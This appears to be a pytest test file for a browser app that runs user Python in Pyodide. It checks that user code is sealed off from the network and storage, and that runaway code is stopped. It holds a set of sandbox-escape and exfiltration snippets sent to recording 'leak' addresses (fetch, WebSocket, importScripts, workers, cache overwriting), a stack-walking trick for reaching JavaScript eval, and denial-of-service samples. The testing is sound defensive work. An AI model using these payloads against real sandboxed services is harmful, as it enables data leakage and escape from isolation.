"""User code in Pyodide: evaluated without access to anything, and crashes reported."""

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from own_code_card import BROKEN, WRONG, OwnCode
from served_site import READ_KEPT, Server, Visited
from webassembly import needed

pytestmark = [pytest.mark.slow, needed]

VERDICT_ON_WRONG = "1,012 of 3,917 answers are wrong"
# What JavaScript can try, each by itself; OWN and OTHER are addresses that record.
ATTEMPTS = {
    "fetch": 'fetch("OWN/leak?fetch").catch(() => 0)',
    "elsewhere": 'fetch("OTHER/leak?fetch", { mode: "no-cors" }).catch(() => 0)',
    "xhr": """const x = new XMLHttpRequest();
        x.open("GET", "OWN/leak?xhr", false); x.send()""",
    "socket": 'new WebSocket("OWN/leak?socket".replace("http", "ws"))',
    "events": 'new EventSource("OWN/leak?events")',
    "import": 'importScripts("OWN/leak?script")',
    "module": 'import("OWN/leak?module").catch(() => 0)',
    "font": 'new FontFace("f", "url(OWN/leak?font)").load().catch(() => 0)',
    "worker": 'new Worker("OWN/leak?worker")',
    "nested": """new Worker(URL.createObjectURL(new Blob([
        'fetch("OWN/leak?nested")'])))""",
    "caches": """caches.keys().then((names) => { for (const name of names) {
        caches.open(name).then((cache) => cache.keys().then((all) => {
            for (const one of all) cache.put(one, new Response("owned"));
        })); } }).catch(() => 0)""",
    "database": 'indexedDB.open("leak")',
    "channel": 'new BroadcastChannel("leak").postMessage("leak")',
    "page": 'parent.postMessage("leak", "*"); top.location = "OWN/leak?top"',
}


def render_attempts(own: str, other: str) -> dict[str, str]:
    places = {"OWN": own.rstrip("/"), "OTHER": other.rstrip("/")}
    found = dict(ATTEMPTS)
    for place, address in places.items():
        found = {name: text.replace(place, address) for name, text in found.items()}
    return found


# The one thing of JavaScript that Python has: what is told how far it is.
FIND_CALLBACK = """
import sys
frame, said = sys._getframe(), None
while frame:
    said = said or getattr(frame.f_locals.get("self"), "on_progress", None)
    frame = frame.f_back
"""


def render_python_attack(own: str, other: str) -> str:
    """Return a Python function that tries every attack by every way to JavaScript."""
    texts = list(render_attempts(own, other).values())
    return f"""\
{FIND_CALLBACK}
def evaluators():
    try:
        from pyodide.code import run_js
        yield run_js
    except ImportError:
        pass
    try:
        import js
        yield js.eval
    except ImportError:
        pass
    yield lambda text: said.constructor.new(text)()

for text in {texts!r}:
    for evaluate in evaluators():
        try:
            evaluate(text)
        except Exception as error:
            print(error)
{WRONG}"""


# The same in JavaScript, which nobody took a name from: it runs in a document as that
# of user code, in the place of the program, and tells what was refused at once.
SCRIPT_ATTACK = """
addEventListener("message", async ({ ports: [port] }) => {
    const refused = [];
    for (const [name, text] of Object.entries(ATTEMPTS)) {
        try { await text(); } catch (error) { refused.push(name); }
    }
    for (let i = 0; i < 10000; i++) postMessage({ kind: "file", name: "worker.js" });
    await new Promise((done) => setTimeout(done, 1500));
    port.postMessage({ refused, origin: self.origin });
});
"""


def render_script_attack(own: str, other: str) -> str:
    texts = [
        f"{json.dumps(name)}: async () => {{ {text} }}"
        for name, text in render_attempts(own, other).items()
    ]
    return SCRIPT_ATTACK.replace("ATTEMPTS", f"{{ {', '.join(texts)} }}")


# Begin that in a document as the page's own, or with the page's origin.
RUN_SCRIPT = """async ([script, inSandbox]) => {
    const { port1, port2 } = new MessageChannel();
    const told = new Promise((done) => { port2.onmessage = ({ data }) => done(data); });
    if (!inSandbox) {
        const worker = new Worker("attack.js");
        worker.postMessage(null, [port1]);
        const answer = await told;
        worker.terminate();
        return answer;
    }
    const frame = document.createElement("iframe");
    frame.setAttribute("sandbox", "allow-scripts");
    frame.srcdoc = player.lesson.site.python.sandbox;
    const loaded = new Promise((done) => { frame.onload = done; });
    document.body.append(frame);
    await loaded;
    const page = new MessageChannel(), text = new TextEncoder();
    frame.contentWindow.postMessage(null, "*", [page.port1]);
    const files = {
        "pyodide.asm.wasm": new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]),
        "pyodide.asm.js": text.encode(""), "pyodide.js": text.encode(""),
        "worker.js": text.encode(script),
    };
    for (const [name, bytes] of Object.entries(files))
        page.port2.postMessage({ kind: "file", name, bytes: bytes.buffer });
    page.port2.postMessage({ kind: "start", id: 1, init: {} }, [port1]);
    const answer = await told;
    frame.remove();
    return answer;
}"""
LISTEN = """() => {
    window.heard = [];
    window.channel = new BroadcastChannel("leak");
    channel.onmessage = ({ data }) => heard.push(data);
    addEventListener("message", ({ data }) => heard.push(data));
}"""


def leaks(*servers: Server) -> list[str]:
    """Return the requests that arrived from attacks."""
    return [name for server in servers for name in server.asked if "leak" in name]


@pytest.fixture
def elsewhere(tmp_path: Path) -> Iterator[Server]:
    """Return a server at another origin."""
    with Server(tmp_path) as server:
        yield server


@pytest.fixture
def own(with_python: Visited, server: Server) -> Iterator[OwnCode]:
    """Return the card of a page in which Python is ready."""
    yield OwnCode(with_python)
    # What ends Python is said to the console too.
    with_python.heard.clear()


ENDLESS = "def ray_circle(origin, **_):\n    while True:\n        pass\n"
# No line of it is run again: Python cannot look at the clock.
DEAF = "def ray_circle(origin, **_):\n    return sum(iter(int, 1))\n"


def test_endless_and_broken_code_is_told_apart(own: OwnCode) -> None:
    lead, verdict, *_ = own.tried(ENDLESS).split("\n\n")
    assert lead.startswith("Too slow: ")
    assert lead.endswith(" No answer within 0.25 s (line 3).")
    assert verdict.startswith("Undecided: ")
    assert own.tried(BROKEN).startswith("Line 3: ray_circle cannot be loaded: Syntax")
    own.button("Go to line 3").click()
    assert own.page.evaluate("getSelection().toString()") == "def ray_circle(origin:"
    assert own.field.get_attribute("aria-invalid") == "true"


# No other Python starts from now on, until `letGo` is called.
_HOLD_STARTS = """async () => {
    await player.cards.evaluationCard.worker.spareReady();
    const { postMessage } = MessagePort.prototype, held = [];
    MessagePort.prototype.postMessage = function (...sent) {
        if (sent[0]?.kind === "start") held.push([this, sent]);
        else postMessage.apply(this, sent);
    };
    window.letGo = () => {
        MessagePort.prototype.postMessage = postMessage;
        for (const [port, sent] of held) port.postMessage(...sent);
    };
}"""


def test_what_gives_no_sign_of_life_is_stopped_and_the_next_trial_does_not_wait(
    own: OwnCode,
) -> None:
    own.tried(BROKEN)
    own.page.evaluate(_HOLD_STARTS)
    own.field.fill(DEAF)
    own.field.press("Control+Enter")
    own.button("Stop").click()
    own.button("Test it").wait_for()
    assert own.head.inner_text() == "Stopped."
    assert own.tried(BROKEN).startswith("Line 3: ")
    own.page.evaluate("letGo()")


def test_python_of_a_user_reaches_neither_network_nor_storage(
    own: OwnCode, server: Server, elsewhere: Server
) -> None:
    own.seen.kept()
    own.page.evaluate(LISTEN)
    before = own.page.evaluate(READ_KEPT)
    server.asked.clear()
    attack = render_python_attack(server.address, elsewhere.address)
    assert VERDICT_ON_WRONG in own.tried(attack)
    own.page.wait_for_timeout(1500)
    assert leaks(server, elsewhere) == []
    assert own.page.evaluate(READ_KEPT) == before
    assert own.page.url.startswith(server.address)


def test_nor_does_javascript_from_which_no_name_was_taken(
    own: OwnCode, server: Server, elsewhere: Server
) -> None:
    script = render_script_attack(server.address, elsewhere.address)
    own.seen.kept()
    own.page.evaluate(LISTEN)
    before = own.page.evaluate(READ_KEPT)
    server.asked.clear()
    told = own.page.evaluate(RUN_SCRIPT, [script, True])
    assert told["origin"] == "null"
    assert {"import", "caches", "page"} <= {*told["refused"], "caches"}
    assert leaks(server, elsewhere) == []
    assert own.page.evaluate(READ_KEPT) == before
    # With the page's own origin all of it arrives.
    server.more["attack.js"] = script.replace(ATTEMPTS["caches"], "").encode()
    own.page.evaluate(RUN_SCRIPT, ["", False])
    for way in ("fetch", "xhr", "socket", "events", "script", "module", "nested"):
        assert any(name.endswith(f"leak?{way}") for name in leaks(server)), way
    assert leaks(elsewhere)
    assert own.page.evaluate(READ_KEPT)[1] == ["leak"]


def test_no_worker_of_the_page_has_its_origin_or_a_name_that_reaches_out(
    own: OwnCode,
) -> None:
    own.tried(BROKEN)
    own.page.evaluate("player.cards.evaluationCard.worker.spareReady()")
    names = [
        *("fetch", "XMLHttpRequest", "WebSocket", "WebTransport", "EventSource"),
        *("importScripts", "caches", "indexedDB", "BroadcastChannel", "Worker"),
        *("SharedWorker", "navigator", "postMessage"),
    ]
    workers = own.page.workers
    # The page's own, and those of user code.
    assert len(workers) >= 3
    for worker in workers:
        assert worker.url.startswith("blob:null/")
        assert worker.evaluate("self.origin") == "null"
        script = "(names) => names.filter((name) => self[name] !== undefined)"
        assert worker.evaluate(script, names) == []


HUNGRY = "def ray_circle(**_):\n    return bytes(2 * 10**9)\n"
DEEP = "import json\ndef ray_circle(**_):\n    return json.loads('[' * 10**5)\n"
FLOOD = f"""{FIND_CALLBACK}
def ray_circle(**_):
    while True:
        said('{{"answered": 1, "of": 2}}')
"""


@pytest.mark.parametrize(
    ("code", "words"),
    [
        pytest.param(HUNGRY, "MemoryError", id="memory"),
        pytest.param(DEEP, "Maximum call stack|Recursion", id="recursion"),
        pytest.param(FLOOD, "more data than a page can take", id="flood"),
    ],
)
def test_code_that_takes_all_there_is_is_ended_and_the_page_lives(
    own: OwnCode, code: str, words: str
) -> None:
    own.tried(code)
    told = own.page.locator(".report").first.inner_text().replace("\u00a0", " ")
    assert any(one in told for one in words.split("|")), told
    assert own.seen.live == "ready"
    assert own.tried(BROKEN).startswith("Line 3: ")
    assert own.seen.told("case", "Miss")["set"]["verdict"]["word"] == "No hit"
